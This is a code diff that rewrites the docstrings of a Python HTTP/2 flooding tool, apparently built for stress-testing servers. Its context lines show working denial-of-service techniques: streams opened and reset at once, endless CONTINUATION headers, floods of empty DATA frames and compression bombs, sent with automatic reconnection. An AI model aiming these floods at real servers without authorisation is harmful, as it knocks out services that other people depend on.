@@ -1,4 +1,4 @@
-"""Floods of HTTP/2 frames: legal ones, or nearly so, as fast as one connection carries them."""
+"""Floods of legal, or nearly legal, HTTP/2 frames, as fast as one connection allows."""
 
 import asyncio
 import itertools
@@ -28,24 +28,24 @@ Frames = Callable[[], Iterator[bytes]]
 
 
 def http2_frame(kind: int, payload: bytes = b"", *, flags: int = 0, stream: int = 0) -> bytes:
-    """Makes a frame."""
+    """Return a frame."""
     return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload
 
 
 def _request_headers(*extra: tuple[bytes, bytes]) -> bytes:
-    """Makes a block of headers that leaves the state of the compression as it was."""
+    """Return a header block that does not change the compression state."""
     fields = [hpack.NeverIndexedHeaderTuple(*field) for field in headers(_PATH, *extra)]
     return hpack.Encoder().encode(fields, huffman=False)
 
 
 def _again(data: bytes) -> Frames:
-    """Repeats the same frames without end."""
+    """Repeat the same frames."""
     chunk = data * max(_CHUNK_BYTES // len(data), 1)
     return lambda: itertools.repeat(chunk)
 
 
 def _resets() -> Iterator[bytes]:
-    """Opens calls and takes each back at once."""
+    """Open calls and reset each at once."""
     block = _request_headers()
     for stream in itertools.count(1, 2):
         yield http2_frame(_HEADERS, block, flags=_END_HEADERS, stream=stream) + http2_frame(
@@ -54,7 +54,7 @@ def _resets() -> Iterator[bytes]:
 
 
 def _headers_without_end() -> Iterator[bytes]:
-    """Begins headers that go on and on."""
+    """Send headers with endless CONTINUATION frames."""
     yield http2_frame(_HEADERS, _request_headers(), stream=1)
     field = b"\x00\x01x\x7f\x81\x7e" + b"y" * 254
     continuation = http2_frame(_CONTINUATION, field * 50, stream=1)
@@ -62,13 +62,13 @@ def _headers_without_end() -> Iterator[bytes]:
 
 
 def _empty_data() -> Iterator[bytes]:
-    """Sends a body of nothing, in very many parts."""
+    """Send an empty body in very many DATA frames."""
     yield http2_frame(_HEADERS, _request_headers(), flags=_END_HEADERS, stream=1)
     yield from itertools.repeat(http2_frame(_DATA, stream=1) * 20_000)
 
 
 def _bombs() -> Iterator[bytes]:
-    """Sends messages that are a thousand times larger once they are inflated."""
+    """Send messages that inflate to a thousand times their size."""
     deflate = zlib.compressobj(9, zlib.DEFLATED, 31)
     packed = deflate.compress(bytes(_BOMB_BYTES)) + deflate.flush()
     body = b"\x01" + frame(packed)[1:]
@@ -92,7 +92,7 @@ async def _flood(target: str, seconds: float, frames: Frames, connections: int) 
 
 
 async def _flood_one(target: str, until: float, frames: Frames) -> tuple[int, int]:
-    """Floods until the time is over, on a new connection whenever the server hangs up."""
+    """Flood until the time is over; reconnect whenever the server closes the connection."""
     host, _, port = target.rpartition(":")
     opened = sent = 0
     while time.monotonic() < until:
@@ -124,7 +124,7 @@ async def _flood_one(target: str, until: float, frames: Frames) -> tuple[int, in
 
 
 async def _read_all(reader: asyncio.StreamReader) -> None:
-    """Takes what the server answers, so that it need not keep it."""
+    """Discard the server's responses, so that it need not buffer them."""
     try:
         while await reader.read(MIB):
             pass
